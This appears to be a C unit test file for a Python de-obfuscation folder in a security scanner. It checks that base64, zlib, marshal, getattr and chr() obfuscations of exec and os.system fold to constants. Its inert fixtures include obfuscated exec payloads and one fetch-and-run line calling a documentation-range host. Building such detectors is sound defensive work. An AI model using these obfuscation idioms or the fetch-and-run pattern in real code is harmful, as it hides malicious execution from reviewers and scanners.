/* SPDX-License-Identifier: MIT */
/* core/pyfold: each obfuscation shape the rules rely on, names bound to
 * constants, things that must stay "not constant", the caps and an OOM
 * sweep. Every fixture is inert (127.0.0.1, 203.0.113.0/24, .invalid). */
#include <stdio.h>
#include <stdlib.h>
#include <zlib.h>

#include "lg_test.h"
#include "lg/buf.h"
#include "lg/decode.h"
#include "lg/limits.h"
#include "lg/pyfold.h"
#include "lg/pysrc.h"

#define SNIPPET "import socket; socket.create_connection((\"127.0.0.1\", 9))\n"

struct want {
	const char *value; /* NULL: not a constant */
	size_t len;
	unsigned layers;
	const char *decoder; /* NULL: none */
	bool code;
};

/* Tokens of the expression to fold: the arguments of the last call of
 * callee, or (callee NULL) the value of the last assignment to t. */
static bool find_expr(const struct lg_pysrc *src, const char *callee,
		      size_t *first, size_t *end)
{
	bool found = false;

	if (callee) {
		for (size_t i = 0; i < src->ncalls; i++)
			if (!strcmp(src->calls[i].callee, callee)) {
				*first = src->calls[i].lparen + 1;
				*end = src->calls[i].rparen;
				found = true;
			}
		return found;
	}
	for (size_t i = 0; i < src->nassigns; i++) {
		struct lg_str t = lg_pysrc_text(src, src->assigns[i].target);

		if (t.len == 1 && t.ptr[0] == 't') {
			*first = src->assigns[i].first;
			*end = src->assigns[i].end;
			found = true;
		}
	}
	return found;
}

static int fold(struct lg_buf *out, struct lg_pyfold_result *res,
		const struct lg_pysrc *src, const char *callee)
{
	size_t first = 0, end = 0;

	if (!find_expr(src, callee, &first, &end))
		fail_msg("no expression to fold");
	return lg_pyfold_expr(out, res, src, first, end);
}

static void check(const char *text, const char *callee, struct want w)
{
	struct lg_pysrc *src = NULL;
	struct lg_buf out = LG_BUF_INIT(LG_MAX_FOLD_BYTES);
	struct lg_pyfold_result res;
	int error;

	assert_int_equal(lg_pysrc_parse(&src, text, strlen(text)), 0);
	error = fold(&out, &res, src, callee);
	if (error)
		fail_msg("%s: error %d %s", text, error, lg_error_last()->message);
	if (!w.value) {
		if (res.constant)
			fail_msg("%s: folded to '%s'", text, out.ptr);
	} else {
		if (!res.constant)
			fail_msg("%s: not folded", text);
		if (out.len != w.len || memcmp(out.ptr, w.value, w.len))
			fail_msg("%s: folded to '%s', not '%s'", text, out.ptr,
				 w.value);
		assert_int_equal(res.code, w.code);
		if (res.layers != w.layers || res.decoded != (w.layers > 0))
			fail_msg("%s: %u layers", text, res.layers);
		if (w.decoder ? !res.decoder || strcmp(res.decoder, w.decoder)
			      : res.decoder != NULL)
			fail_msg("%s: decoder %s", text,
				 res.decoder ? res.decoder : "(none)");
	}
	/* a fold that is not constant leaves no error behind */
	assert_string_equal(lg_error_last()->message, "");
	lg_buf_dispose(&out);
	lg_pysrc_free(src);
}

#define VALUE(s) ((struct want){(s), sizeof(s) - 1, 0, NULL, false})
#define DECODED(s, n, d) ((struct want){(s), sizeof(s) - 1, (n), (d), false})
#define NOT_CONSTANT ((struct want){NULL, 0, 0, NULL, false})

/* "t = <expr>" */
static void check_t(const char *expr, struct want w)
{
	char text[4096];

	snprintf(text, sizeof(text), "t = %s\n", expr);
	check(text, NULL, w);
}

/* ---- fixture builders ---------------------------------------------------- */

static void b64_encode(struct lg_buf *out, const unsigned char *u, size_t n)
{
	static const char abc[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

	for (size_t i = 0; i < n; i += 3) {
		uint32_t v = (uint32_t)u[i] << 16;
		size_t left = n - i;

		if (left > 1)
			v |= (uint32_t)u[i + 1] << 8;
		if (left > 2)
			v |= u[i + 2];
		lg_buf_putc(out, abc[v >> 18 & 63]);
		lg_buf_putc(out, abc[v >> 12 & 63]);
		lg_buf_putc(out, left > 1 ? abc[v >> 6 & 63] : '=');
		lg_buf_putc(out, left > 2 ? abc[v & 63] : '=');
	}
	assert_int_equal(out->err, 0);
}

/* base64(zlib(p)), reversed when asked. */
static void b64_zlib(struct lg_buf *out, const char *p, size_t n, bool reverse)
{
	unsigned char tmp[4096];
	uLongf len = sizeof(tmp);
	struct lg_buf b = LG_BUF_INIT(1 << 20);

	assert_int_equal(compress2(tmp, &len, (const Bytef *)p, (uLong)n, 9), Z_OK);
	b64_encode(&b, tmp, len);
	for (size_t i = 0; i < b.len; i++)
		lg_buf_putc(out, b.ptr[reverse ? b.len - 1 - i : i]);
	lg_buf_dispose(&b);
}

/* zlib(p) as a bytes literal body of \x escapes. */
static void zlib_escaped(struct lg_buf *out, const char *p, size_t n)
{
	unsigned char tmp[4096];
	uLongf len = sizeof(tmp);

	assert_int_equal(compress2(tmp, &len, (const Bytef *)p, (uLong)n, 9), Z_OK);
	for (size_t i = 0; i < len; i++)
		lg_buf_printf(out, "\\x%02x", tmp[i]);
}

/* ---- tests --------------------------------------------------------------- */

static void test_pyfold__tables(void **state)
{
	(void)state;
	assert_int_equal(lg_pyfold_check_tables(), 0);
}

static void test_pyfold__literals(void **state)
{
	(void)state;
	check_t("'exec'", VALUE("exec"));
	check_t("'ex' \"ec\"", VALUE("exec"));
	check_t("('ex'\n     'ec')", VALUE("exec"));
	check_t("b'\\x65xec'", VALUE("exec"));
	check_t("'\\x65\\u0078ec'", VALUE("exec"));
	check_t("f'exec'", VALUE("exec"));
	check_t("f'{{exec}}'", VALUE("{exec}"));
	check_t("f'{x}'", NOT_CONSTANT);
	check_t("b'ex' 'ec'", NOT_CONSTANT); /* bytes and str do not mix */
	check_t("42", NOT_CONSTANT);          /* ints are not the result */
	check_t("x", NOT_CONSTANT);
	check_t("'a' if x else 'b'", NOT_CONSTANT);
	check_t("('a', 'b')", NOT_CONSTANT);
}

static void test_pyfold__operators(void **state)
{
	(void)state;
	check_t("'o'+'s'", VALUE("os"));
	check_t("'sy' + 's' + 'tem'", VALUE("system"));
	check_t("b'ev' + b'al'", VALUE("eval"));
	check_t("'ab' * 3", VALUE("ababab"));
	check_t("2 * 'ab'", VALUE("abab"));
	check_t("'%s%s' % ('sys','tem')", VALUE("system"));
	check_t("'%s' % 'os'", VALUE("os"));
	check_t("'%s:%d%%' % ('port', 9)", VALUE("port:9%"));
	check_t("'%c%c' % (111, 115)", VALUE("os"));
	check_t("'%s%s' % ('a',)", NOT_CONSTANT);
	check_t("'%5s' % 'a'", NOT_CONSTANT);
	check_t("'o' + x", NOT_CONSTANT);
	check_t("'o' - 's'", NOT_CONSTANT);
	check_t("chr(100 + 1) + chr(0x78) + chr(0o145) + chr(0b1100011)", VALUE("exec"));
	check_t("chr(202 // 2) + chr(-(-120)) + chr(2**6 + 37) + chr(99 ^ 0)", VALUE("exec"));
	check_t("chr(1 << 6 | 37)", VALUE("e"));
}

static void test_pyfold__format(void **state)
{
	(void)state;
	check_t("\"{}{}\".format('ev','al')", VALUE("eval"));
	check_t("'{1}{0}'.format('al', 'ev')", VALUE("eval"));
	check_t("'{}.{}.{}.{}'.format(127, 0, 0, 1)", VALUE("127.0.0.1"));
	check_t("'{{}}{}'.format('x')", VALUE("{}x"));
	check_t("'{name}'.format(name='x')", NOT_CONSTANT);
	check_t("'{:>4}'.format('x')", NOT_CONSTANT);
	check_t("'{}{}'.format('x')", NOT_CONSTANT);
	check_t("'{}'.format(b'x')", NOT_CONSTANT);
}

static void test_pyfold__joins(void **state)
{
	(void)state;
	check_t("''.join(map(chr,[101,120,101,99]))", VALUE("exec"));
	check_t("''.join([chr(x) for x in [101,120,101,99]])", VALUE("exec"));
	check_t("''.join(chr(c) for c in [101, 120, 101, 99])", VALUE("exec"));
	check_t("''.join(chr(c) for c in (101, 120, 101, 99,))", VALUE("exec"));
	check_t("''.join(map(lambda c: chr(c - 1), [102, 121, 102, 100]))", VALUE("exec"));
	check_t("''.join([chr(c ^ 1) for c in b'dydb'])", VALUE("exec"));
	check_t("''.join(['e', 'x', 'e', 'c'])", VALUE("exec"));
	check_t("'.'.join(['127', '0', '0', '1'])", VALUE("127.0.0.1"));
	check_t("''.join(reversed('cexe'))", VALUE("exec"));
	check_t("''.join(list('exec'))", VALUE("exec"));
	check_t("b''.join([b'ex', b'ec'])", VALUE("exec"));
	check_t("''.join([b'ex', b'ec'])", NOT_CONSTANT);
	check_t("''.join(chr(c) for c in x)", NOT_CONSTANT);
	check_t("''.join(chr(c) for c in [1, 2] if c)", NOT_CONSTANT);
	check_t("''.join(map(chr, [101, 0x110000]))", NOT_CONSTANT);
	check_t("''.join(map(foo, [101]))", NOT_CONSTANT);
}

static void test_pyfold__bytes(void **state)
{
	(void)state;
	check_t("bytes([112,114,105,110,116]).decode()", VALUE("print"));
	check_t("bytearray([112,114,105,110,116]).decode('ascii')", VALUE("print"));
	check_t("bytes([112, 256])", NOT_CONSTANT);
	check_t("bytes('print', 'utf-8')", VALUE("print"));
	check_t("'print'.encode()", VALUE("print"));
	check_t("b'print'.decode('utf-8')", VALUE("print"));
	check_t("b'\\xff'.decode('utf-8')", NOT_CONSTANT);
	check_t("b'\\xe9'.decode('latin-1')", VALUE("\xc3\xa9"));
	check_t("b'\\x85\\xa5\\x81\\x93'.decode('cp1026')", VALUE("eval"));
	check_t("b'\\x85\\xa7\\x85\\x83'.decode('cp500')", VALUE("exec"));
	check_t("b'x'.decode('klingon')", NOT_CONSTANT);
	check_t("str(b'os', 'ascii')", VALUE("os"));
	check_t("str(9)", VALUE("9"));
}

static void test_pyfold__slices(void **state)
{
	(void)state;
	check_t("\"cexe\"[::-1]", VALUE("exec"));
	check_t("b'cexe'[::-1]", VALUE("exec"));
	check_t("'xexecx'[1:5]", VALUE("exec"));
	check_t("'xexecx'[-5:-1]", VALUE("exec"));
	check_t("'eqxqeqcq'[::2]", VALUE("exec"));
	check_t("'abc'[1]", VALUE("b"));
	check_t("'abc'[5]", NOT_CONSTANT);
	check_t("'abc'[::0]", NOT_CONSTANT);
	check_t("'\xc3\xa9t\xc3\xa9'[::-1]", VALUE("\xc3\xa9t\xc3\xa9"));
	check_t("'\xc3\xa9tx'[1:]", VALUE("tx"));
	check_t("'exec'[x]", NOT_CONSTANT);
	check_t("['ex', 'ec'][1]", VALUE("ec"));
}

static void test_pyfold__methods(void **state)
{
	(void)state;
	check_t("'exXec'.replace('X', '')", VALUE("exec"));
	check_t("'a-b-c'.replace('-', '', 1)", VALUE("ab-c"));
	check_t("'EXEC'.lower()", VALUE("exec"));
	check_t("'exec'.upper()", VALUE("EXEC"));
	check_t("'  exec\\n'.strip()", VALUE("exec"));
	check_t("'xxexecxx'.strip('x')", VALUE("exec"));
	check_t("'xxexec'.lstrip('x')", VALUE("exec"));
	check_t("'execxx'.rstrip('x')", VALUE("exec"));
	check_t("'exec'.title()", NOT_CONSTANT);
	check_t("'exec'.split()", NOT_CONSTANT);
}

static void test_pyfold__decoders(void **state)
{
	(void)state;
	check("import base64\nexec(base64.b64decode(\"aW1wb3J0IG9z\"))\n",
	      "exec", DECODED("import os", 1, "base64.b64decode"));
	check("from base64 import b64decode as d\nexec(d('aW1wb3J0IG9z'))\n",
	      "exec", DECODED("import os", 1, "base64.b64decode"));
	check("exec(getattr(__import__('base64'), 'b64decode')('aW1wb3J0IG9z'))\n",
	      "exec", DECODED("import os", 1, "base64.b64decode"));
	check("import codecs\nexec(codecs.decode('rkrp', 'rot13'))\n", "exec",
	      DECODED("exec", 1, "codecs.decode"));
	check("import codecs\nexec(codecs.encode('rkrp', 'rot_13'))\n", "exec",
	      DECODED("exec", 1, "codecs.encode"));
	check("import codecs\nexec(codecs.decode('7072696e74', 'hex'))\n", "exec",
	      DECODED("print", 1, "codecs.decode"));
	check("import codecs\nexec(codecs.decode(b'\\x85\\xa5\\x81\\x93', 'cp1026'))\n",
	      "exec", VALUE("eval"));
	check("exec(bytes.fromhex('7072696e74').decode('utf-8'))\n", "exec",
	      DECODED("print", 1, "bytes.fromhex"));
	check("import binascii\nexec(binascii.unhexlify(b'7072696e74'))\n",
	      "exec", DECODED("print", 1, "binascii.unhexlify"));
	check("import base64\nexec(base64.b32decode('nfwxa33soqqg64y=', casefold=True))\n",
	      "exec", DECODED("import os", 1, "base64.b32decode"));
	check("import base64\nexec(base64.b64decode('-_-_', altchars=b'-_'))\n",
	      "exec", DECODED("\xfb\xff\xbf", 1, "base64.b64decode"));
	check("exec(b'aW1wb3J0IG9z'.decode())\n", "exec", VALUE("aW1wb3J0IG9z"));
	/* Python would raise: not a constant, and no error left set */
	check("import base64\nexec(base64.b64decode('not base64!'))\n", "exec",
	      NOT_CONSTANT);
	check("import zlib\nexec(zlib.decompress(b'not zlib'))\n", "exec",
	      NOT_CONSTANT);
	check("import base64\nexec(base64.b64decode('aW1w', altchars=b'xy'))\n",
	      "exec", NOT_CONSTANT);
}

static void test_pyfold__import_chain(void **state)
{
	struct lg_buf body = LG_BUF_INIT(1 << 20), text = LG_BUF_INIT(1 << 20);

	(void)state;
	b64_zlib(&body, LG_TEST_STR(SNIPPET), false);
	lg_buf_printf(&text,
		      "exec(__import__('zlib').decompress(__import__('base64')."
		      "b64decode(b'%s')))\n",
		      body.ptr);
	check(text.ptr, "exec", DECODED(SNIPPET, 2, "zlib.decompress"));
	/* the same with wbits, through aliases */
	lg_buf_reset(&text);
	lg_buf_printf(&text,
		      "import zlib as z, base64 as b\n"
		      "exec(z.decompress(b.b64decode('%s'), 15))\n",
		      body.ptr);
	check(text.ptr, "exec", DECODED(SNIPPET, 2, "zlib.decompress"));
	/* multi-layer through a name and x[::-1] */
	lg_buf_reset(&body);
	lg_buf_reset(&text);
	b64_zlib(&body, LG_TEST_STR(SNIPPET), true);
	lg_buf_printf(&text,
		      "import zlib, base64\n"
		      "x = '%s'\n"
		      "exec(zlib.decompress(base64.b64decode(x[::-1])))\n",
		      body.ptr);
	check(text.ptr, "exec", DECODED(SNIPPET, 2, "zlib.decompress"));
	lg_buf_dispose(&body);
	lg_buf_dispose(&text);
}

static void test_pyfold__marshal(void **state)
{
	static const char code[] = "\xe3\x01\x02\x03 fake code object";
	struct lg_buf body = LG_BUF_INIT(1 << 20), text = LG_BUF_INIT(1 << 20);

	(void)state;
	zlib_escaped(&body, LG_TEST_STR(code));
	lg_buf_printf(&text,
		      "import marshal, zlib\n"
		      "exec(marshal.loads(zlib.decompress(b'%s')))\n",
		      body.ptr);
	check(text.ptr, "exec",
	      ((struct want){code, sizeof(code) - 1, 1, "zlib.decompress", true}));
	check("exec(compile('print(1)', '<s>', 'exec'))\n", "exec",
	      ((struct want){"print(1)", 8, 0, NULL, true}));
	check("import marshal\nexec(marshal.loads('text'))\n", "exec", NOT_CONSTANT);
	lg_buf_dispose(&body);
	lg_buf_dispose(&text);
}

static void test_pyfold__names(void **state)
{
	(void)state;
	check("import base64\np = \"aW1wb3J0IG9z\"; exec(base64.b64decode(p))\n",
	      "exec", DECODED("import os", 1, "base64.b64decode"));
	check("a = 'ex'\nb = a + 'ec'\nexec(b)\n", "exec", VALUE("exec"));
	check("a = b = 'exec'\nexec(b)\n", "exec", VALUE("exec"));
	check("s: str = 'exec'\nexec(s)\n", "exec", VALUE("exec"));
	check("p = 'x'\np = 'exec'\nexec(p)\n", "exec", VALUE("exec"));
	check("p = 'x'\np = p + 'y'\nexec(p)\n", "exec", VALUE("xy"));
	/* a module constant read inside a def */
	check("import base64\nP = 'aW1wb3J0IG9z'\n"
	      "def run():\n    exec(base64.b64decode(P))\n",
	      "exec", DECODED("import os", 1, "base64.b64decode"));
	check("def run():\n    exec(P)\nP = 'exec'\n", "exec", VALUE("exec"));
	/* a comprehension variable does not leak into a name's value */
	check("x = 'e'\nk = x\nt = ''.join([k + x for x in ['1', '2']])\n",
	      NULL, VALUE("e1e2"));
	check("k = ''.join([c for c in 'ab'])\n"
	      "t = ''.join([k + c for c in 'xy'])\n",
	      NULL, VALUE("abxaby"));
	check("k = 3\nt = ''.join(chr(c ^ k) for c in [102, 123, 102, 96])\n",
	      NULL, VALUE("exec"));
	/* a local shadows the module constant */
	check("P = 'os'\ndef run():\n    P = 'exec'\n    exec(P)\n", "exec",
	      VALUE("exec"));
}

static void test_pyfold__not_constant(void **state)
{
	(void)state;
	check("def f(x):\n    exec(x)\n", "exec", NOT_CONSTANT);
	check("x = 'os'\ndef f(x):\n    exec(x)\n", "exec", NOT_CONSTANT);
	check("x = 'os'\ndef f(a, b=1, *x):\n    exec(x)\n", "exec", NOT_CONSTANT);
	check("import requests\nexec(requests.get(u).text)\n", "exec", NOT_CONSTANT);
	check("import requests\nexec(requests.get('http://203.0.113.9/x').text)\n",
	      "exec", NOT_CONSTANT);
	check("from cryptography.fernet import Fernet\n"
	      "exec(Fernet(key).decrypt(token))\n",
	      "exec", NOT_CONSTANT);
	check("exec(open('x.py').read())\n", "exec", NOT_CONSTANT);
	check("exec(input())\n", "exec", NOT_CONSTANT);
	check("exec(undefined_name)\n", "exec", NOT_CONSTANT);
	/* self reference and cycles */
	check("p = p + 'x'\nexec(p)\n", "exec", NOT_CONSTANT);
	check("a = b\nb = a\nexec(a)\n", "exec", NOT_CONSTANT);
	check("exec(p)\np = 'assigned later'\n", "exec", NOT_CONSTANT);
	/* rebound in ways the assignment list does not show */
	check("s = 'a'\ns += 'b'\nexec(s)\n", "exec", NOT_CONSTANT);
	check("s = 'a'\nfor s in y:\n    pass\nexec(s)\n", "exec", NOT_CONSTANT);
	check("s = 'a'\nwith open(f) as s:\n    pass\nexec(s)\n", "exec", NOT_CONSTANT);
	check("s = 'a'\ns, t = y\nexec(s)\n", "exec", NOT_CONSTANT);
	check("def f():\n    exec(s)\n    s = 'late'\n", "exec", NOT_CONSTANT);
	check("x = 'os'\nrun = lambda x: exec(x)\n", "exec", NOT_CONSTANT);
	check("x = 'os'\n[exec(x) for x in y]\n", "exec", NOT_CONSTANT);
	check("x = 'os'\nfor x in y: exec(x)\n", "exec", NOT_CONSTANT);
	check("x = 'os'\ndef x():\n    pass\nexec(x)\n", "exec", NOT_CONSTANT);
	check("x = 'os'\nrun = lambda y: exec(x)\n", "exec", VALUE("os"));
	check("exec(*args)\n", "exec", NOT_CONSTANT);
	check("exec(lambda: 1)\n", "exec", NOT_CONSTANT);
	check("exec({'a': 1})\n", "exec", NOT_CONSTANT);
	check("exec()\n", "exec", NOT_CONSTANT);
}

static void test_pyfold__caps(void **state)
{
	struct lg_buf text = LG_BUF_INIT(1 << 20), out = LG_BUF_INIT(LG_MAX_FOLD_BYTES);
	struct lg_pysrc *src = NULL;
	struct lg_pyfold_result res;

	(void)state;
	/* a chain of names longer than LG_MAX_FOLD_DEPTH */
	lg_buf_puts(&text, "v0 = 'exec'\n");
	for (int i = 1; i < 100; i++)
		lg_buf_printf(&text, "v%d = v%d\n", i, i - 1);
	lg_buf_puts(&text, "exec(v99)\n");
	assert_int_equal(lg_pysrc_parse(&src, text.ptr, text.len), 0);
	assert_int_equal(fold(&out, &res, src, "exec"), LG_ETOOBIG);
	assert_non_null(strstr(lg_error_last()->message, "nested"));
	lg_error_clear();
	lg_pysrc_free(src);
	/* ... and one that fits */
	lg_buf_reset(&text);
	lg_buf_puts(&text, "v0 = 'exec'\n");
	for (int i = 1; i < 20; i++)
		lg_buf_printf(&text, "v%d = v%d\n", i, i - 1);
	lg_buf_puts(&text, "exec(v19)\n");
	check(text.ptr, "exec", VALUE("exec"));
	/* names read twice per level stay linear (memo by assignment) */
	lg_buf_reset(&text);
	lg_buf_puts(&text, "v0 = 'ab'\n");
	for (int i = 1; i < 50; i++)
		lg_buf_printf(&text, "v%d = v%d[:1] + v%d[1:]\n", i, i - 1, i - 1);
	lg_buf_puts(&text, "exec(v49)\n");
	check(text.ptr, "exec", VALUE("ab"));
	/* a value past LG_MAX_FOLD_BYTES */
	assert_int_equal(lg_pysrc_parse(&src, LG_TEST_STR("t = 'A' * 10**9\n")), 0);
	assert_int_equal(fold(&out, &res, src, NULL), LG_ETOOBIG);
	lg_error_clear();
	lg_pysrc_free(src);
	assert_int_equal(lg_pysrc_parse(&src, LG_TEST_STR("t = ('AB' * 2**20) * 4\n")), 0);
	assert_int_equal(fold(&out, &res, src, NULL), LG_ETOOBIG);
	lg_error_clear();
	lg_pysrc_free(src);
	/* LG_MAX_FOLD_ITEMS */
	assert_int_equal(lg_pysrc_parse(&src, LG_TEST_STR("t = list(b'x' * 2000000)\n")), 0);
	assert_int_equal(fold(&out, &res, src, NULL), LG_ETOOBIG);
	assert_non_null(strstr(lg_error_last()->message, "items"));
	lg_error_clear();
	lg_pysrc_free(src);
	/* LG_MAX_FOLD_STEPS */
	assert_int_equal(lg_pysrc_parse(&src, LG_TEST_STR(
		"t = ''.join([c[:0] for c in 'x' * 4000000])\n")), 0);
	assert_int_equal(fold(&out, &res, src, NULL), LG_ETOOBIG);
	assert_non_null(strstr(lg_error_last()->message, "steps"));
	lg_error_clear();
	lg_pysrc_free(src);
	/* the caller's cap on out */
	lg_buf_dispose(&out);
	lg_buf_init(&out, 2);
	assert_int_equal(lg_pysrc_parse(&src, LG_TEST_STR("t = 'exec'\n")), 0);
	assert_int_equal(fold(&out, &res, src, NULL), LG_ETOOBIG);
	lg_error_clear();
	assert_int_equal(lg_pyfold_expr(&out, &res, src, 5, 2), LG_ERROR);
	assert_int_equal(lg_pyfold_expr(&out, &res, src, 0, src->ntoks + 1), LG_ERROR);
	lg_error_clear();
	lg_pysrc_free(src);
	lg_buf_dispose(&out);
	lg_buf_dispose(&text);
}

static void test_pyfold__oom(void **state)
{
	struct lg_buf body = LG_BUF_INIT(1 << 20), text = LG_BUF_INIT(1 << 20);
	struct lg_pysrc *src = NULL;
	int error = LG_ENOMEM;
	long n;

	(void)state;
	b64_zlib(&body, LG_TEST_STR(SNIPPET), true);
	lg_buf_printf(&text,
		      "import zlib, base64\nx = '%s'\n"
		      "exec(zlib.decompress(base64.b64decode(x[::-1])))\n"
		      "y = ''.join(map(chr, [101, 120, 101, 99])) + '{}'.format(1)\n",
		      body.ptr);
	assert_int_equal(lg_pysrc_parse(&src, text.ptr, text.len), 0);
	for (n = 0; error == LG_ENOMEM && n < 10000; n++) {
		struct lg_buf out = LG_BUF_INIT(LG_MAX_FOLD_BYTES);
		struct lg_pyfold_result res;

		lg_alloc_fail_after(n);
		error = fold(&out, &res, src, "exec");
		lg_alloc_fail_after(-1);
		assert_true(error == 0 || error == LG_ENOMEM);
		if (!error) {
			assert_true(res.constant);
			assert_int_equal(out.len, strlen(SNIPPET));
			assert_memory_equal(out.ptr, SNIPPET, out.len);
		}
		lg_buf_dispose(&out);
	}
	assert_int_equal(error, 0);
	assert_true(n > 3);
	lg_error_clear();
	lg_pysrc_free(src);
	lg_buf_dispose(&body);
	lg_buf_dispose(&text);
}

/* Callee of the last call of code after lg_pyfold_callees. */
static void callee_is(const char *code, const char *want)
{
	struct lg_pysrc *src = NULL;

	assert_int_equal(lg_pysrc_parse(&src, code, strlen(code)), 0);
	assert_int_equal(lg_pyfold_callees(src), 0);
	assert_true(src->ncalls > 0);
	assert_string_equal(src->calls[src->ncalls - 1].callee, want);
	lg_pysrc_free(src);
}

static void test_pyfold__callees(void **state)
{
	(void)state;
	callee_is("getattr(__import__('o' + 's'), 'sys' + 'tem')(c)",
		  "os.system");
	callee_is("import importlib as il\n"
		  "getattr(il.import_module('o' + 's.path'), 'join')(a)",
		  "os.path.join");
	callee_is("getattr(__import__('o' + 's.path'), 'join')(a)",
		  "os.join"); /* __import__('a.b') without fromlist is a */
	callee_is("import builtins as b\ngetattr(b, 'ex' + 'ec')(c)", "exec");
	callee_is("globals()['ex' + 'ec'](c)", "exec");
	callee_is("locals()[chr(101) + 'val'](c)", "eval");
	callee_is("import builtins\nvars(builtins)['exec'](c)", "exec");
	callee_is("import os\nvars(os)['system'](c)", "os.system");
	callee_is("import os\nos.__dict__['system'](c)", "os.system");
	callee_is("__builtins__.__dict__['exec'](c)", "exec");
	callee_is("__builtins__['exec'](c)", "exec");
	/* not resolved: computed at run time, not a name, other containers */
	callee_is("globals()[name](c)", "");
	callee_is("globals()['a b'](c)", "");
	callee_is("table['exec'](c)", "");
	callee_is("getattr(obj(), 'ex' + 'ec')(c)", "");
	callee_is("getattr(__import__(m), 'system')(c)", "");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_pyfold__tables),
		cmocka_unit_test(test_pyfold__literals),
		cmocka_unit_test(test_pyfold__operators),
		cmocka_unit_test(test_pyfold__format),
		cmocka_unit_test(test_pyfold__joins),
		cmocka_unit_test(test_pyfold__bytes),
		cmocka_unit_test(test_pyfold__slices),
		cmocka_unit_test(test_pyfold__methods),
		cmocka_unit_test(test_pyfold__decoders),
		cmocka_unit_test(test_pyfold__import_chain),
		cmocka_unit_test(test_pyfold__marshal),
		cmocka_unit_test(test_pyfold__names),
		cmocka_unit_test(test_pyfold__not_constant),
		cmocka_unit_test(test_pyfold__caps),
		cmocka_unit_test(test_pyfold__oom),
		cmocka_unit_test(test_pyfold__callees),
	};

	return cmocka_run_group_tests_name("pyfold", tests, NULL, NULL);
}
